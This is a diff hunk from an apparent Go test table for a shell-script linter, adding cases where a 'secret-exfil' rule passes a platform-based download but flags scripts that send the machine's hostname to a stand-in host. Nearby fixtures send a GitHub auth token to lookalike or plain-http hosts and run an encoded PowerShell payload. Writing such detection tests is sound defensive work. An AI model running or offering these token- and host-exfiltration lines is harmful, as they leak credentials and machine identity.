@@ -65,6 +65,10 @@ var codeCases = []lintCase{
 	{"run.sh", "eval-decode", "e=$(cat payload.txt)\npwsh -NoProfile -EncodedCommand \"$e\"\n", "error", 2},
 	// Go reads as JavaScript does, with := and a, b := f()
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://api.github.com/user\n", "", 0},
+	// uname's platform names pick a download; the host's name is who it is.
+	{"install.sh", "secret-exfil", "os=$(uname -s | tr '[:upper:]' '[:lower:]')\narch=$(uname -m)\ncurl -fsSLO \"https://x.example/d/v1/x-${os}-${arch}.tar.gz\"\n", "", 0},
+	{"install.sh", "secret-exfil", "h=$(uname -n)\ncurl -s \"https://x.example/c?h=$h\"\n", "error", 2},
+	{"install.sh", "secret-exfil", "h=$(uname -a)\ncurl -s \"https://x.example/c?h=$h\"\n", "error", 2},
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://gh-stats.example/user\n", "error", 2},
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" https://api.github.com.gh-stats.example/user\n", "error", 2},
 	{"my-prs.sh", "secret-exfil", "t=$(gh auth token)\ncurl -fsS -H \"Authorization: Bearer $t\" http://api.github.com/user\n", "error", 2},
